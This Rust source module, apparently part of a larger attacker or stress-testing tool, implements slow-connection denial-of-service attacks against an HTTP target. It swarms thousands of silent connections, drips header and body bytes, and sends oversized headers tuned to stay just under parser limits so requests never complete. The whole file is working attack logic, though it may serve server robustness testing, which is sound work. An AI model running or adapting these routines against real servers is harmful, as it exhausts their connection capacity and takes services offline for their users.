//! Connections that say little: silent ones, and heads and bodies that come slowly or grow long.

use crate::attacker::Attack;
use crate::message::{self, Bytes};

pub(super) async fn slow_bodies(attack: Attack) {
    let opening = message::unfinished(&attack.target, 1000);
    attack.swarm(1100, |attack, index| attack.linger(index, opening.clone(), Some(b' '))).await;
}

pub(super) async fn silent(attack: Attack) {
    let nothing: Bytes = [].into();
    let count = attack.size.pick(2500, 2500, 5000);
    attack.swarm(count, |attack, index| attack.linger(index, nothing.clone(), None)).await;
}

pub(super) async fn slow_heads(attack: Attack) {
    let opening: Bytes = format!("{}X-Slow: ", attack.target.post()).into_bytes().into();
    let count = attack.size.pick(2500, 2500, 5000);
    attack.swarm(count, |attack, index| attack.linger(index, opening.clone(), Some(b'x'))).await;
}

/// Fewer fields than a parser would refuse, each of a length it takes, and no end.
pub(super) async fn big_heads(attack: Attack) {
    const FIELDS: usize = 50;
    let field = format!("X-Long: {}\r\n", "x".repeat(400_000 / FIELDS));
    let opening: Bytes = (attack.target.post() + &field.repeat(FIELDS)).into_bytes().into();
    attack.swarm(1500, |attack, index| attack.linger(index, opening.clone(), None)).await;
}
